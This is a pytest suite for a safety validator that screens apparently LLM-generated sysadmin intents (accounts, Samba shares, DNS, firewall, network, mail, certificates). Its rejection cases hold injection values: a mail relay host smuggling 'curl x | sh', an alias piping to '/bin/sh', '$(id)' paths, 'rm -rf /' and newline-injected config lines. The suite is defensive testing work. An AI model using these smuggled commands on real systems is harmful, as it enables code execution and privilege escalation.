"""Tests for microllm.safety: each rule rejects with a clear reason, its near misses pass."""

from __future__ import annotations

import dataclasses

import pytest

from microllm.safety import (
    CHECKS,
    DEFAULT_SHARE_ROOTS,
    PRIVILEGED_GROUPS,
    RESERVED_GROUPS,
    RESERVED_USERS,
    HostAccounts,
    SafetyPolicy,
    UnsafeIntentError,
    Violation,
    check_intent,
    default_policy,
    ensure_safe,
    is_safe,
    set_default_policy,
)
from microllm.schema import OPERATIONS, validate_intent


@pytest.fixture(autouse=True)
def _no_host_accounts():
    """Judge by the documented lists only: the machine running the tests must not change the verdicts."""
    previous = set_default_policy(SafetyPolicy())
    yield
    set_default_policy(previous)


# The gold answers of the spec's examples (shared/intent-spec.md): all must be executable.
SPEC_EXAMPLES = [
    {"action": "dns_add", "name": "api.local", "record_type": "A", "value": "10.0.0.5"},
    {"action": "dns_remove", "name": "old.example.com"},
    {"action": "dns_add", "name": "www.local", "record_type": "CNAME", "value": "server.local"},
    {"action": "user_add", "username": "john", "password": "abc123"},
    {"action": "user_add_to_group", "username": "john", "group": "samba"},
    {"action": "user_remove", "username": "jane"},
    {"action": "share_create", "name": "family", "path": "/srv/shares/family"},
    {"action": "share_grant_access", "share": "family", "username": "john"},
    {"action": "fw_allow", "port": 443, "protocol": "tcp", "source": "10.0.0.0/8"},
    {"action": "unknown"},
    {"action": "dns_add", "name": "api.local", "record_type": "A", "value": "999.1.1.1"},  # rule 8 (parsed)
    {"action": "clarify", "intent": "dns_add", "missing": ["record_type", "value"]},
]
SPEC_SAFE = [e for e in SPEC_EXAMPLES if e.get("value") != "999.1.1.1"]


def user(name, **kw):
    return {"action": "user_add", "username": name, **kw}


def group(name, action="group_add"):
    return {"action": action, "group": name}


def dns(rtype, value, name="api.local", **kw):
    return {"action": "dns_add", "name": name, "record_type": rtype, "value": value, **kw}


def share(name="family", path="/srv/shares/family", **kw):
    return {"action": "share_create", "name": name, "path": path, **kw}


def fw(**kw):
    return {"action": "fw_allow", **kw}


def addr(address, interface="eth0", **kw):
    return {"action": "net_set_address", "interface": interface, "address": address, **kw}


def cert(cn="web.example.com", **kw):
    return {"action": "cert_create", "common_name": cn, **kw}


def relay(host, **kw):
    return {"action": "mail_set_relay", "host": host, **kw}


def alias(name="info", destination="john"):
    return {"action": "mail_alias_add", "alias": name, "destination": destination}


# (intent, path of the first violation, substring of its reason)
REJECTED = [
    # accounts and names
    (user("j smith"), "username", "contains whitespace"),
    (user("-rf"), "username", "must not start with '-'"),
    (user("root"), "username", "reserved system account"),
    (user("daemon"), "username", "reserved system account"),
    (user("Root"), "username", "reserved system account"),
    (user("systemd-coredump"), "username", "reserved system account"),
    (user("john;rm"), "username", "contains shell metacharacter ';'"),
    (user("john$"), "username", "contains shell metacharacter '$'"),
    (user("a\\b"), "username", "contains shell metacharacter '\\\\'"),
    (user("john\n"), "username", "contains a newline"),
    (user("1john"), "username", "not a valid user name"),
    (user("j" * 33), "username", "not a valid user name"),
    (user("jöhn"), "username", "not a valid user name"),
    ({"action": "user_remove", "username": "sshd"}, "username", "reserved system account"),
    ({"action": "user_set_password", "username": "root", "password": "x"}, "username", "reserved"),
    (group("sudo"), "group", "reserved system group"),
    (group("wheel", "group_remove"), "group", "reserved system group"),
    (group("dev ops"), "group", "contains whitespace"),
    ({"action": "user_add_to_group", "username": "john", "group": "shadow"}, "group", "reserved"),
    ({"action": "user_remove_from_group", "username": "john", "group": "adm"}, "group", "reserved"),
    ({"action": "share_grant_access", "share": "family", "group": "disk"}, "group", "reserved"),
    ({"action": "share_grant_access", "share": "family", "username": "root"}, "username", "reserved"),
    ({"action": "share_revoke_access", "share": "fam&ly", "username": "john"}, "share", "metacharacter '&'"),
    # free text
    (user("john", full_name="John\nroot::0:0"), "full_name", "contains a newline"),
    (user("john", full_name="John: Smith"), "full_name", "GECOS"),
    (user("john", password=""), "password", "must not be empty"),
    (user("john", password="x" * 129), "password", "longer than 128"),
    (user("john", password="a\x00b"), "password", "NUL"),
    (share(comment="ok\n[global]"), "comment", "contains a newline"),
    (share(comment="bad\rcr"), "comment", "carriage return"),
    (share(comment="trailing\\"), "comment", "line continuation"),
    (dns("TXT", "v=spf1\n-all"), "value", "contains a newline"),
    # samba shares and paths
    (share(name="global"), "name", "reserved Samba section"),
    ({"action": "share_remove", "name": "homes"}, "name", "reserved Samba section"),
    (share(name="print$"), "name", "metacharacter '$'"),
    (share(name=" my share"), "name", "contains whitespace"),
    (share(name="my  share"), "name", "contains whitespace"),
    (share(name="my\tshare"), "name", "control character"),
    (share(name="-x"), "name", "must not start with '-'"),
    (share(path="/srv/../etc"), "path", "'..'"),
    (share(path="srv/share"), "path", "absolute"),
    (share(path="/"), "path", "system directory"),
    (share(path="/etc"), "path", "system directory"),
    (share(path="/usr/"), "path", "system directory"),
    (share(path="//var"), "path", "system directory"),
    (share(path="/etc/samba"), "path", "under /etc"),
    (share(path="/root/.ssh"), "path", "under /root"),
    (share(path="/proc/1"), "path", "under /proc"),
    (share(path="/srv/a;b"), "path", "metacharacter ';'"),
    (share(path="/srv/$(id)"), "path", "metacharacter '$'"),
    (share(path="/srv/x\ny"), "path", "contains a newline"),
    # dns
    (dns("A", "999.1.1.1"), "value", "not a valid IPv4 address"),
    (dns("A", "2001:db8::1"), "value", "not a valid IPv4 address"),
    (dns("A", "10.0.0"), "value", "not a valid IPv4 address"),
    (dns("AAAA", "10.0.0.5"), "value", "not a valid IPv6 address"),
    (dns("AAAA", "2001:db8::g"), "value", "not a valid IPv6 address"),
    ({"action": "dns_update", "name": "a.local", "record_type": "A", "value": "1.2.3.256"}, "value", "IPv4"),
    (dns("A", "10.0.0.5", name="bad_name.local"), "name", "not a valid DNS name"),
    (dns("A", "10.0.0.5", name="-api.local"), "name", "not a valid DNS name"),
    (dns("A", "10.0.0.5", name="a..local"), "name", "empty label"),
    (dns("A", "10.0.0.5", name="x" * 64 + ".local"), "name", "longer than 63"),
    (dns("A", "10.0.0.5", name=("a" * 60 + ".") * 5 + "com"), "name", "longer than 253"),
    (dns("A", "10.0.0.5", name="api.local;reboot"), "name", "not a valid DNS name"),
    (dns("CNAME", "server local"), "value", "not a valid CNAME target"),
    (dns("CNAME", "999.1.1.1"), "value", "numeric top-level label"),
    (dns("MX", "mail_x.local", priority=10), "value", "not a valid MX target"),
    (dns("NS", "-ns1.local"), "value", "not a valid NS target"),
    (dns("SPF", "v=spf1 -all"), "record_type", "unsupported record type"),
    ({"action": "dns_lookup", "name": "a.local", "record_type": "ANY"}, "record_type", "unsupported"),
    (dns("A", "10.0.0.5", ttl=0), "ttl", "out of range 1..2147483647"),
    (dns("A", "10.0.0.5", ttl=2**31), "ttl", "out of range"),
    (dns("A", "10.0.0.5", ttl="300"), "ttl", "must be an integer"),
    (dns("MX", "mail.local", priority=-1), "priority", "out of range 0..65535"),
    (dns("MX", "mail.local", priority=65536), "priority", "out of range 0..65535"),
    (dns("A", "10.0.0.5", priority=10), "priority", "only applies to MX"),
    # firewall
    (fw(port=0), "port", "out of range 1..65535"),
    (fw(port=70000), "port", "out of range 1..65535"),
    (fw(port=True), "port", "must be an integer"),
    (fw(port="443"), "port", "must be an integer"),
    (fw(service="ssh;reboot"), "service", "metacharacter ';'"),
    (fw(service="SSH"), "service", "not a valid firewall service"),
    (fw(service="-ssh"), "service", "must not start with '-'"),
    (fw(port=22, protocol="icmp"), "protocol", "must be one of tcp, udp"),
    (fw(port=22, source="10.0.0.0/33"), "source", "not a valid IP address or CIDR"),
    (fw(port=22, source="999.1.1.1"), "source", "not a valid IP address or CIDR"),
    (fw(port=22, source="any"), "source", "not a valid IP address or CIDR"),
    # network
    (addr("10.0.0.5"), "address", "address needs a prefix length"),
    (addr("10.0.0.5/33"), "address", "not a valid interface address"),
    (addr("999.0.0.5/24"), "address", "not a valid interface address"),
    (addr("10.0.0.0/24"), "address", "network or broadcast address"),
    (addr("10.0.0.255/24"), "address", "network or broadcast address"),
    (addr("127.0.0.2/8"), "address", "not a usable host address"),
    (addr("10.0.0.5/24", gateway="10.0.0.999"), "gateway", "not a valid IP address"),
    (addr("10.0.0.5/24", gateway="2001:db8::1"), "gateway", "IPv6 but the address is IPv4"),
    (addr("10.0.0.5/24", gateway="10.0.0.5"), "gateway", "own address"),
    (addr("10.0.0.5/24", interface="lo"), "interface", "refusing to reconfigure the loopback interface"),
    ({"action": "net_down", "interface": "lo"}, "interface", "loopback"),
    ({"action": "net_set_dhcp", "interface": "lo"}, "interface", "loopback"),
    ({"action": "net_up", "interface": "eth0;reboot"}, "interface", "metacharacter ';'"),
    ({"action": "net_up", "interface": "averyveryverylongname"}, "interface", "not a valid interface"),
    ({"action": "net_up", "interface": ".."}, "interface", "not a valid interface"),
    ({"action": "net_up", "interface": "eth/0"}, "interface", "not a valid interface"),
    ({"action": "net_set_nameservers", "servers": ["1.1.1.1", "dns.google"]}, "servers[1]", "IP address"),
    ({"action": "net_set_nameservers", "servers": "1.1.1.1"}, "servers", "must be a list"),
    # mail
    (relay("smtp.example.com", port=0), "port", "out of range 1..65535"),
    (relay("smtp.example.com", port=65536), "port", "out of range 1..65535"),
    (relay("999.1.1.1"), "host", "not a valid host name or IP address"),
    (relay("smtp example.com"), "host", "not a valid host name or IP address"),
    (relay("[smtp.example.com]"), "host", "not a valid host name or IP address"),
    (alias("in fo"), "alias", "contains whitespace"),
    (alias("info:"), "alias", "not a valid mail alias"),
    (alias("press@example.net"), "alias", "local name"),
    (alias(destination="|/bin/sh"), "destination", "metacharacter '|'"),
    (alias(destination="/var/mail/x"), "destination", "local user name or one e-mail address"),
    (alias(destination="john,jane"), "destination", "one e-mail address"),
    (alias(destination=":include:/etc/list"), "destination", "one e-mail address"),
    (alias(destination="john@bad_host"), "destination", "not a valid e-mail address"),
    (alias(destination="@example.com"), "destination", "not a valid e-mail address"),
    # pki
    (cert("web example.com"), "common_name", "not a valid host name"),
    (cert("*.*.example.com"), "common_name", "not a valid host name"),
    (cert("web.*.example.com"), "common_name", "not a valid host name"),
    (cert(alt_names=["ok.example.com", "bad_name.example.com"]), "alt_names[1]", "bad label"),
    (cert(alt_names="ok.example.com"), "alt_names", "must be a list"),
    ({"action": "cert_revoke", "common_name": "a.local;rm"}, "common_name", "not a valid host name"),
    (cert(days=0), "days", "out of range 1..3650"),
    (cert(days=3651), "days", "unreasonable"),
    ({"action": "cert_renew", "common_name": "a.local", "days": 36500}, "days", "unreasonable"),
    (cert(key_type="rsa", key_size=1024), "key_size", "unsupported key size for rsa"),
    (cert(key_type="rsa", key_size=256), "key_size", "unsupported key size for rsa"),
    (cert(key_type="ec", key_size=2048), "key_size", "unsupported key size for ec"),
    (cert(key_size=512), "key_size", "unsupported key size"),
    (cert(key_type="dsa"), "key_type", "must be one of rsa, ec"),
    (cert(key_type=["rsa"], key_size=2048), "key_type", "must be one of rsa, ec"),
    # scope ids: Python's ipaddress takes any text after '%', which would reach main.cf / resolv.conf verbatim
    (relay("fe80::1%eth0\nmailbox_command = curl x | sh"), "host", "scope id"),
    (relay("fe80::1%eth0"), "host", "scope id"),
    (dns("AAAA", "fe80::1%eth0"), "value", "scope id"),
    (fw(port=22, source="fe80::%eth0/64"), "source", "scope id"),
    (addr("fe80::5%eth0/64"), "address", "scope id"),
    (addr("2001:db8::5/64", gateway="fe80::1%eth0"), "gateway", "scope id"),
    (cert("fe80::1%eth0"), "common_name", "scope id"),
    ({"action": "net_set_nameservers", "servers": ["fe80::1%eth0\nnameserver 6.6.6.6"]}, "servers[0]", "scope id"),
    ({"action": "net_set_nameservers", "servers": ["fe80::1%$(id)"]}, "servers[0]", "scope id"),
    ({"action": "net_set_nameservers", "servers": ["2001:db8::1%eth0"]}, "servers[0]", "link-local"),
    ({"action": "net_set_nameservers", "servers": ["10.0.0.1%eth0"]}, "servers[0]", "link-local"),
    ({"action": "net_set_nameservers", "servers": []}, "servers", "empty list"),
    ({"action": "net_set_nameservers", "servers": ["10.0.0.1"] * 9}, "servers", "more than 8"),
    # root-equivalent groups and daemon accounts
    ({"action": "user_add_to_group", "username": "john", "group": "docker"}, "group", "reserved system group"),
    ({"action": "user_add_to_group", "username": "john", "group": "lxd"}, "group", "reserved system group"),
    ({"action": "user_add_to_group", "username": "john", "group": "libvirt"}, "group", "reserved system group"),
    ({"action": "user_add_to_group", "username": "john", "group": "admin"}, "group", "reserved system group"),
    ({"action": "user_add_to_group", "username": "john", "group": "Docker"}, "group", "reserved system group"),
    ({"action": "user_set_password", "username": "postgres", "password": "x1"}, "username", "reserved"),
    ({"action": "user_set_password", "username": "mysql", "password": "x1"}, "username", "reserved"),
    ({"action": "user_unlock", "username": "tss"}, "username", "reserved system account"),
    ({"action": "user_unlock", "username": "operator"}, "username", "reserved system account"),
    # system trees and places outside the allowed share roots
    (share(path="/var/lib/samba/shares/x"), "path", "under /var"),
    (share(path="/usr/local/bin"), "path", "under /usr"),
    (share(path="/var/spool/cron/crontabs"), "path", "under /var"),
    (share(path="/var/lib/samba/private"), "path", "under /var"),
    (share(path="/var/www/html"), "path", "under /var"),
    (share(path="/home/john/.ssh"), "path", "dot-directory"),
    (share(path="/home/john/docs/.gnupg/x"), "path", "dot-directory"),
    (share(path="/home/john"), "path", "not under an allowed share root"),
    (share(path="/home"), "path", "system directory"),
    (share(path="/srv"), "path", "not under an allowed share root"),
    (share(path="/opt/app"), "path", "not under an allowed share root"),
    (share(path="/tmp/x"), "path", "under /tmp"),
    (share(path="/srv/100%U"), "path", "Samba variable"),
    (share(path="/srv/a:b"), "path", "share paths hold"),
    (share(path="/srv/x "), "path", "starts or ends with a space"),
    (share(path="/srv/\u202ecod.exe"), "path", "invisible format character"),
    (share(comment="50% of %U"), "comment", "variable substitution"),
    (share(comment=" padded"), "comment", "whitespace"),
    (share(comment="x" * 257), "comment", "longer than 256"),
    (user("john", full_name="a\u2028b"), "full_name", "control character"),
    (user("john", password="a\ud800b"), "password", "lone surrogate"),
    (dns("TXT", "x" * 256), "value", "longer than 255 bytes"),
    (dns("SRV", "10 5 5060 sip.example.com; rm", name="_sip._tcp.example.com"), "value", "SRV"),
    (dns("SRV", "10 5 70000 sip.example.com", name="_sip._tcp.example.com"), "value", "0..65535"),
    (dns("CAA", '0 issue "ca.example"\n@ IN A 6.6.6.6'), "value", "contains a newline"),
    (dns("CAA", "0 evil x"), "value", "CAA value"),
    (alias(destination="john%evil.example@example.com"), "destination", "not a valid e-mail address"),
    (fw(port=2**5000), "port", "out of range"),
    (cert(days=10**100), "days", "unreasonable"),
    ({"action": "user_remove", "username": "john", "remove_home": "yes"}, "remove_home", "true or false"),
    (share(read_only=1), "read_only", "true or false"),
    ({"action": "share_grant_access", "share": "x", "username": "john", "access": "admin"}, "access", "read, write"),
    # structure: check_intent validates the shape itself
    ({"action": "user_add", "Username": "john"}, "Username", "did you mean 'username'"),
    ({"action": "user_add", "username": "john", "uid": 0}, "uid", "unknown field"),
    ({"action": "user_add", "username": "john", "groups": ["sudo"]}, "groups", "unknown field"),
    ({"Action": "user_add", "username": "john"}, "action", "missing 'action'"),
    ({"action": "user_add"}, "username", "required field missing"),
    ({"action": "user_add", "username": None}, "username", "null is not a value"),
    ({"action": "share_grant_access", "share": "x"}, "username", "exactly one of"),
    ({"action": "share_grant_access", "share": "x", "username": "john", "group": "devs"}, "username", "exactly one"),
    ({"action": "fw_allow", "port": 22, "service": "ssh"}, "port", "exactly one"),
    ({"action": "dns_add", "name": "a.local", "record_type": "A", "value": 5}, "value", "must be a string"),
    ({"action": "multi", "steps": [user("john")]}, "steps", "two or more"),
    ({"action": "multi", "steps": [user("john"), {"action": "unknown"}]}, "steps[1].action", "meta action"),
    ({"action": "multi", "steps": [user("john"), user("jane")], "uid": 0}, "uid", "unknown field"),
    ({"action": "unknown", "note": "root; rm -rf /"}, "note", "unknown takes no other field"),
    ({"action": "clarify", "intent": "rm_rf", "missing": ["x"]}, "intent", "must name an operation"),
    ({"action": "clarify", "intent": "user_add", "missing": ["uid"]}, "missing", "not required fields"),
    ({"action": "USER_ADD", "username": "john"}, "action", "unknown action"),
    # shape problems the validator still reports clearly
    ({"action": "rm_rf"}, "action", "unknown action"),
    ({"action": "multi", "steps": "user_add"}, "steps", "must be a list"),
    ({"action": "multi", "steps": [user("john"), "nope"]}, "steps[1]", "not a JSON object"),
]

# Near misses of the rules above: all safe.
ACCEPTED = [
    user("j.smith"),
    user("John"),
    user("_svc"),
    user("jane-doe_2"),
    user("j" * 32),
    user("rooted"),
    user("sysadmin"),
    user("john", full_name="John Smith, Room 4", password="p@ss w0rd;$(rm -rf /)`|&'\"!"),
    user("john", password="x" * 128),
    group("developers"),
    group("samba"),
    group("sudoers-team"),
    {"action": "user_add_to_group", "username": "john", "group": "media"},
    {"action": "share_grant_access", "share": "family", "group": "family", "access": "write"},
    {"action": "share_grant_access", "share": "homes", "username": "john"},
    share(name="Family.Photos_2024", path="/srv/Family Photos", read_only=True, comment="Photos: 2024"),
    share(path="/home/john/share"),
    share(path="/home/samba/Design/2024"),
    share(name="Temp Files"),
    {"action": "share_remove", "name": "Temp Files"},
    share(path="/data/Projects/x"),
    share(path="/export/Lemaxes"),
    share(path="/volume1/Renders"),
    share(path="/opt/shares/lab_data"),
    share(path="/backup/nightly"),
    share(path="/media/usb1"),
    share(path="/srv/Familie Müller/Fotos"),
    share(path="/srv/git/repo/.git"),
    dns("CAA", '0 issue "letsencrypt.org"'),
    dns("TXT", "x" * 255),
    user("john", full_name="José Müller-Łukasz"),
    share(path="/mnt/data/./public/"),
    share(path="/srv/..hidden/x"),
    dns("A", "10.0.0.5"),
    dns("AAAA", "2001:db8::1"),
    {"action": "dns_update", "name": "api.local", "record_type": "AAAA", "value": "::1", "ttl": 2147483647},
    dns("A", "10.0.0.5", ttl=1),
    dns("CNAME", "server.local"),
    dns("CNAME", "_acme.other.example.com", name="_acme-challenge.example.com"),
    dns("MX", "mail.local", priority=0),
    dns("MX", "mail.local", priority=65535),
    dns("TXT", "v=DMARC1; p=none", name="_dmarc.example.com"),
    dns("TXT", 'say "hi" & $HOME'),
    dns("SRV", "10 5 5060 sip.example.com", name="_sip._tcp.example.com"),
    dns("PTR", "api.local", name="5.0.0.10.in-addr.arpa"),
    dns("NS", "ns1.example.com.", name="example.com"),
    {"action": "dns_lookup", "name": "a.local", "record_type": "mx"},
    {"action": "dns_remove", "name": "x" * 63 + ".local"},
    fw(port=443),
    fw(port=1),
    fw(port=65535, protocol="udp"),
    fw(service="ssh"),
    fw(service="http-alt_2"),
    fw(port=22, source="192.168.1.10"),
    fw(port=22, source="10.0.0.5/8"),
    fw(port=22, source="2001:db8::/32"),
    {"action": "fw_deny", "port": 23},
    {"action": "fw_remove", "service": "smtp", "source": "0.0.0.0/0"},
    addr("10.0.0.5/24"),
    addr("172.16.5.20/255.255.255.0"),
    addr("10.0.0.5/24", gateway="10.0.0.1"),
    addr("2001:db8::5/64", gateway="2001:db8::1"),
    addr("10.0.0.0/31"),
    addr("10.0.0.5/24", interface="enp0s31f6"),
    addr("10.0.0.5/24", interface="eth0.100"),
    addr("10.0.0.5/24", interface="eth0:1"),
    {"action": "net_up", "interface": "lo"},
    {"action": "net_set_dhcp", "interface": "wlan0"},
    {"action": "net_set_nameservers", "servers": ["1.1.1.1", "2606:4700:4700::1111"], "interface": "eth0"},
    {"action": "net_set_nameservers", "servers": ["127.0.0.53"], "interface": "lo"},
    {"action": "net_set_nameservers", "servers": ["fe80::1%eth0", "fe80::2%3"]},
    relay("smtp.example.com", port=587),
    relay("10.0.0.25", port=25),
    relay("2001:db8::25"),
    relay("relay"),
    alias("info"),
    alias("first.last+tag", "jane@example.com"),
    alias("postmaster", "root"),
    {"action": "mail_alias_remove", "alias": "old-list"},
    cert(),
    cert("*.example.com", alt_names=["example.com", "www.example.com", "10.0.0.5"]),
    cert(days=1),
    cert(days=3650),
    cert(key_type="rsa", key_size=4096),
    cert(key_type="ec", key_size=384),
    cert(key_size=521),
    cert(key_size=3072),
    {"action": "cert_renew", "common_name": "a.local", "days": 365},
    {"action": "cert_revoke", "common_name": "api.local"},
    # nothing to execute: always safe, whatever they carry
    {"action": "clarify", "intent": "user_add", "missing": ["username"]},
    {
        "action": "multi",
        "steps": [user("john"), {"action": "user_add_to_group", "username": "john", "group": "samba"}],
    },
]


@pytest.mark.parametrize("intent", SPEC_SAFE, ids=lambda i: i["action"])
def test_spec_examples_are_safe(intent):
    assert check_intent(intent) == []
    assert is_safe(intent)
    assert ensure_safe(intent) is intent


@pytest.mark.parametrize("intent", SPEC_EXAMPLES, ids=lambda i: i["action"])
def test_spec_examples_parse_then_check(intent):
    """Rule 8: the schema copies 999.1.1.1; the safety validator is what rejects it."""
    parsed = validate_intent(intent)
    assert is_safe(parsed) == (intent in SPEC_SAFE)


@pytest.mark.parametrize(("intent", "path", "reason"), REJECTED, ids=lambda x: repr(x)[:60])
def test_rejected(intent, path, reason):
    violations = check_intent(intent)
    assert violations, f"expected a violation for {intent}"
    first = violations[0]
    assert first.path == path
    assert reason in first.reason, first.reason
    assert not is_safe(intent)
    with pytest.raises(UnsafeIntentError) as exc:
        ensure_safe(intent)
    assert exc.value.violations == tuple(violations)
    assert reason in str(exc.value)


@pytest.mark.parametrize("intent", ACCEPTED, ids=lambda x: repr(x)[:60])
def test_accepted(intent):
    assert check_intent(intent) == []


@pytest.mark.parametrize("name", sorted(RESERVED_USERS))
def test_every_reserved_user_is_rejected(name):
    assert not is_safe(user(name))
    assert not is_safe({"action": "user_remove", "username": name})


@pytest.mark.parametrize("name", sorted(RESERVED_GROUPS))
@pytest.mark.parametrize("action", ["group_add", "group_remove", "user_add_to_group", "share_grant_access"])
def test_every_reserved_group_is_rejected(name, action):
    intent = {"action": action, "group": name}
    intent.update({"user_add_to_group": {"username": "john"}, "share_grant_access": {"share": "x"}}.get(action, {}))
    assert check_intent(intent)[0].reason == "reserved system group"


@pytest.mark.parametrize("char", list(";|&$`<>(){}[]*?!~'\"\\"))
def test_each_shell_metacharacter_is_named(char):
    [v] = check_intent(user(f"jo{char}hn"))
    assert v.reason == f"contains shell metacharacter {char!r}"


def test_violation_str_and_fields():
    [v] = check_intent(user("root"))
    assert v == Violation("username", "username", "root", "reserved system account")
    assert str(v) == "username='root': reserved system account"
    with pytest.raises(dataclasses.FrozenInstanceError):
        v.reason = "fine"  # type: ignore[misc]


def test_multi_second_step_path():
    intent = {"action": "multi", "steps": [user("john"), user("j smith"), user("jane")]}
    [v] = check_intent(intent)
    assert v.path == "steps[1].username"
    assert v.field == "username"
    assert str(v) == "steps[1].username='j smith': contains whitespace"


def test_multi_reports_every_step_and_nested_lists():
    intent = {
        "action": "multi",
        "steps": [
            {"action": "net_set_nameservers", "servers": ["1.1.1.1", "bad"]},
            {"action": "fw_allow", "port": 0, "source": "nope"},
        ],
    }
    assert [v.path for v in check_intent(intent)] == [
        "steps[0].servers[1]",
        "steps[1].port",
        "steps[1].source",
    ]


def test_all_violations_are_reported():
    intent = user("root", full_name="a\nb", password="")
    assert [v.field for v in check_intent(intent)] == ["username", "full_name", "password"]


@pytest.mark.parametrize("password", ["", "hunter2\n", "s3cr3t\x00", "Tr0ub4dor&3" * 20, "abc123"])
def test_password_never_shown(password):
    intent = {"action": "multi", "steps": [user("root", password=password), user("jane")]}
    violations = check_intent(intent)
    assert violations[0].path == "steps[0].username"
    with pytest.raises(UnsafeIntentError) as exc:
        ensure_safe(intent)
    texts = [str(exc.value), repr(exc.value), *map(str, violations), *map(repr, violations)]
    core = password.strip("\n\x00")
    assert not core or all(core not in t for t in texts)
    if password != "abc123":  # a fine password gives no violation at all
        [pw] = [v for v in violations if v.field == "password"]
        assert pw.value == "***"
        assert "steps[0].password='***'" in str(exc.value)


def test_unsafe_error_is_a_value_error():
    with pytest.raises(ValueError, match="username='daemon': reserved system account"):
        ensure_safe(user("daemon"))


def test_every_operation_has_checks():
    checked = {action for action, _ in CHECKS}
    assert checked == set(OPERATIONS)


def test_non_dict_intent():
    [v] = check_intent(["user_add"])  # type: ignore[arg-type]
    assert "not a JSON object" in v.reason


def host(users=None, groups=None):
    return SafetyPolicy(accounts=HostAccounts(users=users or {}, groups=groups or {}))


def test_host_accounts_outside_the_login_range_are_refused():
    policy = host(users={"pgadmin": 112, "john": 1000, "nobody2": 65534, "toor2": 0}, groups={"sambashare": 136})
    assert "UID 112 outside the login range 1000..60000" in check_intent(user("pgadmin"), policy)[0].reason
    assert "UID 65534" in check_intent({"action": "user_lock", "username": "nobody2"}, policy)[0].reason
    assert "UID 0" in check_intent({"action": "user_remove", "username": "Toor2"}, policy)[0].reason  # case folded
    assert check_intent({"action": "user_set_password", "username": "john", "password": "x1"}, policy) == []
    grant = {"action": "user_add_to_group", "username": "john", "group": "sambashare"}
    assert "GID 136" in check_intent(grant, policy)[0].reason
    assert check_intent(grant, host()) == []  # unknown here: the documented lists decide


def test_host_accounts_read_from_login_defs(tmp_path):
    defs = tmp_path / "login.defs"
    defs.write_text("# comment\nUID_MIN\t\t 2000\nUID_MAX 3000\nGID_MIN 500\nFOO bar\n")
    accounts = HostAccounts.from_host(defs)
    assert (accounts.uid_min, accounts.uid_max, accounts.gid_min, accounts.gid_max) == (2000, 3000, 500, 60000)
    assert accounts.users.get("root") == 0  # pwd: every machine has root
    assert accounts.system_user("root") and accounts.system_user("ROOT")


def test_default_policy_reads_this_host(monkeypatch):
    set_default_policy(None)
    monkeypatch.setenv("MICROLLM_SHARE_ROOTS", "/tank:/pool/shares")
    policy = default_policy()
    assert policy.accounts is not None and policy.share_roots == ("/tank", "/pool/shares")
    assert is_safe(share(path="/tank/x")) and not is_safe(share(path="/srv/x"))


def test_share_roots_are_configurable():
    policy = SafetyPolicy(share_roots=("/tank", "/pool/*"))
    assert check_intent(share(path="/tank/media"), policy) == []
    assert check_intent(share(path="/pool/a/b"), policy) == []
    assert "allowed share root (/tank, /pool/*)" in check_intent(share(path="/srv/x"), policy)[0].reason
    assert "/srv" in DEFAULT_SHARE_ROOTS and "/home/*" in DEFAULT_SHARE_ROOTS
    with pytest.raises(ValueError, match="absolute"):
        SafetyPolicy.from_host(share_roots=("srv",))


def test_privileged_groups_are_reserved():
    assert {"root", "sudo", "wheel", "adm", "docker", "lxd", "libvirt", "admin", "disk", "shadow"} <= PRIVILEGED_GROUPS
    assert PRIVILEGED_GROUPS <= RESERVED_GROUPS
    assert {"postgres", "mysql", "tss", "operator"} <= RESERVED_USERS


def test_unknown_field_values_are_never_echoed():
    [v] = check_intent({"action": "user_add", "username": "john", "pass": "Hunter2!"})
    assert v.value == "***" and "Hunter2" not in str(v)
